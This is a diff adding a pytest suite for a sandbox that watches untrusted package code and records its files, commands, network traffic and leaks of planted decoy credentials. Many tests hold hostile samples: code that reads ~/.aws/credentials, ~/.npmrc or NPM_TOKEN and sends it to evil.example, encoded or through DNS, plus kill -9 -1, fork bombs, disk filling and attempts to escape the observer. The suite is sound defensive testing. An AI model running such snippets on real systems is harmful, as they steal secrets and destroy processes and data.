@@ -1,0 +1,389 @@
+# ruff: noqa: S108 - inside the sandbox, where /tmp is private
+"""What a watched program does is seen, and no program makes its own record lie."""
+
+import dataclasses
+import sys
+
+import pytest
+
+from plugins.sandbox import Limits, availability
+from plugins.sandbox.limits import MIB
+from plugins.sandbox.watch import Decoys, Phase, unavailable, watch
+from plugins.sandbox.watch.contract import PHASE_LIMITS
+from tests.support import available
+
+QUICK = dataclasses.replace(PHASE_LIMITS, wall_seconds=4)
+
+
+@pytest.fixture(scope="module", autouse=True)
+def _possible():
+    if availability():
+        pytest.fail(f"no sandbox here: {availability()}")
+    assert unavailable() is None
+
+
+def python(code, name="import", **more):
+    return Phase(name, ("/usr/bin/python3", "-I", "-c", code), **more)
+
+
+def shell(code, name="install", **more):
+    return Phase(name, ("/bin/sh", "-c", code), **more)
+
+
+def node(code, **more):
+    return Phase("import", ("node", "-e", code), **more)
+
+
+def one(phase, **more):
+    (record,) = watch([phase], **more).phases
+    return record
+
+
+def changed(record):
+    return {file.path for file in record.files if file.write or file.delete}
+
+
+# --- what is seen ---
+
+
+def test_files_commands_names_and_connections_are_seen_with_their_times():
+    record = one(
+        node(
+            """
+            const fs = require('fs'), https = require('https');
+            require('child_process').execSync('echo hi > /tmp/x; rm /tmp/x');
+            const ask = https.request({host: 'api.example.com', path: '/v1?q=1', method: 'POST'}, answer => {
+                answer.resume(); answer.on('end', () => process.exit(0));
+            });
+            ask.end('body');
+            """
+        )
+    )
+
+    assert (record.complete, record.problems, record.returncode) == (True, (), 0)
+    (written,) = [file for file in record.files if file.path == "/tmp/x"]
+    assert (written.write, written.delete) == (True, True)
+    assert [command.argv for command in record.commands] == [
+        ("/bin/sh", "-c", "echo hi > /tmp/x; rm /tmp/x"),
+        ("rm", "/tmp/x"),
+    ]
+    assert [(event.hostname, event.types) for event in record.dns] == [("api.example.com", ("A", "AAAA"))]
+    (request,) = record.http
+    assert (request.method, request.scheme, request.host, request.path, request.sni, request.body_bytes) == (
+        "POST", "https", "api.example.com", "/v1?q=1", "api.example.com", 4,
+    )  # fmt: skip
+    (socket,) = record.sockets
+    assert (socket.port, socket.hostnames, socket.listening) == (443, ("api.example.com",), False)
+    assert 0 < record.commands[0].at < record.http[0].at < record.duration
+
+
+def test_python_speaks_to_the_sink_too():
+    record = one(python("import urllib.request as u; print(u.urlopen('https://pypi.example.org/x').read())"))
+
+    assert record.stdout == b"b'{}'\n"
+    assert [(request.method, request.host, request.path) for request in record.http] == [
+        ("GET", "pypi.example.org", "/x")
+    ]
+
+
+def test_an_address_without_a_name_is_seen_whether_or_not_anybody_answers():
+    record = one(
+        python(
+            "import socket\n"
+            "for to in [('203.0.113.9', 4444), ('203.0.113.9', 1)]:\n"
+            "    try: socket.create_connection(to, 2).send(b'hello')\n"
+            "    except OSError as problem: print(problem)\n"
+            "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('203.0.113.10', 9999))\n"
+        )
+    )
+
+    assert {(socket.address, socket.port) for socket in record.sockets} == {
+        ("203.0.113.9", 4444),
+        ("203.0.113.9", 1),
+        ("203.0.113.10", 9999),
+    }
+
+
+def test_who_listens_is_seen():
+    record = one(python("import socket; s = socket.socket(); s.bind(('0.0.0.0', 1880)); s.listen()"))
+
+    assert [(socket.address, socket.port, socket.listening) for socket in record.sockets] == [("0.0.0.0", 1880, True)]
+
+
+@pytest.mark.parametrize(
+    ("code", "encoding"),
+    [
+        ("t", "plain"),
+        ("t[::-1]", "reversed"),
+        ("t.encode().hex()", "hex"),
+        ("base64.b64encode(b'{\"a\":\"' + t.encode() + b'\"}').decode()", "base64"),
+        ("base64.b32encode(t.encode()).decode()", "base32"),
+    ],
+)
+def test_a_decoy_that_leaves_is_known_again_in_another_form(code, encoding):
+    record = one(
+        python(
+            "import base64, os, urllib.request as u\n"
+            "t = open(os.path.expanduser('~/.aws/credentials')).read().split()[-1]\n"
+            f"u.urlopen('http://evil.example/', data=({code}).encode())\n"
+        )
+    )
+
+    assert [decoy.name for decoy in record.decoys] == ["~/.aws/credentials"]
+    assert {(leak.name, leak.channel, leak.target, leak.encoding) for leak in record.leaks} == {
+        ("~/.aws/credentials", "http", "evil.example", encoding)
+    }
+
+
+def test_a_variable_that_leaves_through_names_is_known_again():
+    record = one(
+        python(
+            "import os, socket\n"
+            "t = os.environ['NPM_TOKEN']\n"
+            "try: socket.gethostbyname(t[:12] + '.' + t[12:] + '.x.evil.example')\n"
+            "except OSError: pass\n"
+        )
+    )
+
+    assert [(leak.name, leak.channel) for leak in record.leaks] == [("$NPM_TOKEN", "dns")]
+
+
+def test_gzip_hides_no_decoy():
+    record = one(
+        python(
+            "import gzip, os, urllib.request as u\n"
+            "u.urlopen('http://evil.example/', data=gzip.compress(os.environ['NPM_TOKEN'].encode()))\n"
+        )
+    )
+
+    assert [leak.name for leak in record.leaks] == ["$NPM_TOKEN"]
+
+
+def test_decoys_are_other_ones_in_each_run():
+    assert not set(Decoys.new().tokens.values()) & set(Decoys.new().tokens.values())
+
+
+def test_each_phase_has_its_own_record_and_a_fresh_home():
+    first, second = watch(
+        [shell("echo 1 > ~/left; cat ~/.npmrc"), shell("ls ~/left; nslookup x; true", name="import")]
+    ).phases
+
+    assert [decoy.name for decoy in first.decoys] == ["~/.npmrc"]
+    assert (second.decoys, b"left" in second.stdout) == ((), False)
+    assert first.started == 0 < second.started
+
+
+def test_what_prepares_a_phase_is_not_in_its_record():
+    record = one(shell("cat /tmp/made", prepare="echo made > /tmp/made; cat ~/.npmrc"))
+
+    assert (changed(record), record.decoys, record.commands) == (set(), (), record.commands)
+    assert record.stdout.endswith(b"made\n")
+
+
+# --- who tries to lie ---
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "a>b) = 3<x>",
+        'quote" and \\ back',
+        "new\nline",
+        "<unfinished ...>",
+        "é\x01\x1b[2J",
+        "+++ exited with 0 +++",
+    ],
+)
+def test_a_hostile_file_name_is_one_file_of_that_name(name):
+    record = one(python(f"import os; open('/tmp/' + {name!r}, 'w'); os.unlink('/tmp/' + {name!r})"))
+
+    assert record.complete
+    assert changed(record) == {f"/tmp/{name}"}
+
+
+def test_paths_are_told_from_the_folder_they_are_relative_to():
+    record = one(shell("mkdir -p /tmp/a/b; cd /tmp/a/b; echo > x; cd ..; rm b/x; mv b ../c; ln -s /etc/passwd link"))
+
+    assert {"/tmp/a/b/x", "/tmp/a/b", "/tmp/c", "/tmp/a/link"} <= changed(record)
+    (file,) = [file for file in record.files if file.path == "/tmp/a/b/x"]
+    assert (file.write, file.delete) == (True, True)
+
+
+def test_a_decoy_read_through_a_link_is_a_decoy_read():
+    assert [d.name for d in one(shell("ln -s ~/.npmrc /tmp/innocent; cat /tmp/innocent")).decoys] == ["~/.npmrc"]
+
+
+def test_no_descriptor_of_the_observer_is_open_inside():
+    record = one(
+        python(
+            "import os\n"
+            "for fd in range(3, 256):\n"
+            "    try: os.write(fd, b'1 1.0 execve(\"/bin/lie\", [\"lie\"], 0x0) = 0\\n'); print('wrote', fd)\n"
+            "    except OSError: pass\n"
+        )
+    )
+
+    assert (record.complete, record.commands, record.stdout) == (True, (), b"")
+
+
+def test_no_process_of_ours_can_be_seen_killed_or_traced():
+    record = one(
+        python(
+            "import ctypes, os, signal\n"
+            "print(sorted(int(p) for p in os.listdir('/proc') if p.isdigit()) == [1, os.getpid()])\n"
+            "libc = ctypes.CDLL(None, use_errno=True)\n"
+            "print(libc.ptrace(0, 0, 0, 0), ctypes.get_errno(), libc.ptrace(16, 1, 0, 0), ctypes.get_errno())\n"
+            "try: print(open('/proc/1/environ').read())\n"
+            "except OSError as problem: print(problem.errno)\n"
+        )
+    )
+
+    assert record.stdout.decode().splitlines() == ["True", "-1 1 -1 1", "13"]
+
+
+def test_who_kills_everybody_only_ends_itself_and_leaves_its_record():
+    record = one(
+        shell("cat ~/.npmrc >/dev/null; kill -9 1; kill -9 -1; kill -9 $PPID; cat ~/.netrc; sleep 60", limits=QUICK)
+    )
+
+    assert [decoy.name for decoy in record.decoys] == ["~/.npmrc", "~/.netrc"]
+    assert (record.complete, record.timed_out) == (True, True)
+
+
+def test_a_daemon_does_not_outlive_its_phase():
+    first, second = watch(
+        [
+            python(
+                "import os, time, urllib.request as u\n"
+                "if os.fork() == 0:\n"
+                "    os.setsid()\n"
+                "    if os.fork() == 0:\n"
+                "        time.sleep(2); u.urlopen('http://late.example/')\n"
+                "    os._exit(0)\n"
+            ),
+            python("import time; time.sleep(3)", name="tests"),
+        ]
+    ).phases
+
+    assert (first.complete, second.complete) == (True, True)
+    assert (first.http, second.http, second.dns) == ((), (), ())
+
+
+def test_a_child_that_asks_not_to_be_watched_is_not_made():
+    record = one(
+        python(
+            "import ctypes\n"
+            "libc = ctypes.CDLL(None, use_errno=True)\n"
+            "print(libc.syscall(56, 0x00800000 | 17, 0, 0, 0, 0), ctypes.get_errno())\n"
+        )
+    )
+
+    assert record.stdout == b"-1 1\n"
+
+
+def test_the_hosts_own_services_are_not_there():
+    host, port = available.REDIS
+    record = one(
+        python(
+            f"import socket; s = socket.create_connection(({host!r}, {port}), 2); s.settimeout(1)\n"
+            "try: s.send(b'PING\\r\\n'); print(s.recv(10))\n"
+            "except OSError: print('silence')\n"
+        )
+    )
+
+    assert record.stdout == b"silence\n"
+    assert [(socket.address, socket.port) for socket in record.sockets] == [(host, port)]
+
+
+# --- who does too much ---
+
+
+def test_who_forks_without_end_is_contained():
+    record = one(python("import os\nwhile True:\n    try: os.fork()\n    except OSError: pass\n", limits=QUICK))
+
+    assert (record.timed_out, record.duration < 20) == (True, True)
+
+
+def test_who_sleeps_is_ended():
+    record = one(shell("cat ~/.npmrc; sleep 600", limits=QUICK))
+
+    assert (record.timed_out, [decoy.name for decoy in record.decoys]) == (True, ["~/.npmrc"])
+    assert record.ending == "It was stopped after 4 seconds."
+
+
+def test_who_fills_the_disk_gets_no_further_than_its_own_tmp():
+    record = one(
+        shell(
+            "head -c 900M /dev/zero > /tmp/a; head -c 900M /dev/zero > ~/b; df -k /tmp | tail -1", limits=PHASE_LIMITS
+        )
+    )
+
+    used = int(record.stdout.split()[2])
+    assert used <= PHASE_LIMITS.tmp_bytes // 1024
+    assert record.complete
+
+
+def test_who_prints_without_end_is_stopped_and_what_is_kept_is_short():
+    record = one(shell("while true; do printf '\\033[2J\\033]0;owned\\007%01000d' 0; done", limits=QUICK))
+
+    assert (record.truncated, record.timed_out) == (True, False)
+    assert len(record.stdout) <= 4096
+
+
+def test_who_holds_too_much_memory_over_many_processes_is_ended():
+    record = one(
+        python(
+            "import os, time\n"
+            "for _ in range(12):\n"
+            "    if os.fork() == 0:\n"
+            "        x = bytearray(os.urandom(1)) * (256 << 20); time.sleep(30)\n"
+            "time.sleep(30)\n",
+            limits=Limits(wall_seconds=15, memory_bytes=4096 * MIB, tmp_bytes=16 * MIB),
+        )
+    )
+
+    assert not record.complete
+    assert "1536 MiB of memory" in " ".join(record.problems)
+    assert record.duration < 14
+
+
+def test_a_record_that_grows_without_end_is_cut_and_says_so():
+    record = one(
+        python(
+            "import os\nwhile True:\n    try: os.unlink('/tmp/none')\n    except OSError: pass\n",
+            limits=dataclasses.replace(PHASE_LIMITS, wall_seconds=30, cpu_seconds=60),
+        )
+    )
+
+    assert not record.complete
+    assert "The record ends after 400,000 system calls." in record.problems
+
+
+def test_many_files_are_cut_and_it_is_said(tmp_path):
+    record = one(python("for n in range(6000): open(f'/tmp/{n}', 'w').close()"))
+
+    assert not record.complete
+    assert "More than 5,000 files were touched; the rest is left out." in record.problems
+
+
+def test_phases_after_a_hostile_one_are_recorded_all_the_same():
+    first, second = watch([shell("kill -9 -1", limits=QUICK), shell("cat ~/.netrc", name="import")]).phases
+
+    assert (first.complete, second.complete) == (True, True)
+    assert [decoy.name for decoy in second.decoys] == ["~/.netrc"]
+
+
+def test_a_missing_observer_is_said_with_what_to_install(monkeypatch):
+    from plugins.sandbox.watch import run  # noqa: PLC0415
+
+    run.observer.cache_clear()
+    monkeypatch.setattr(
+        "plugins.sandbox.command.shutil.which", lambda name: None if name == "strace" else f"/usr/bin/{name}"
+    )
+
+    assert unavailable() == "The program strace is missing. Install it with: apt-get install strace util-linux"
+    run.observer.cache_clear()
+
+
+def test_the_interpreter_of_this_portal_can_be_watched():
+    assert one(Phase("import", (sys.executable, "-c", "print(1)"))).returncode in {0, 126, 127}
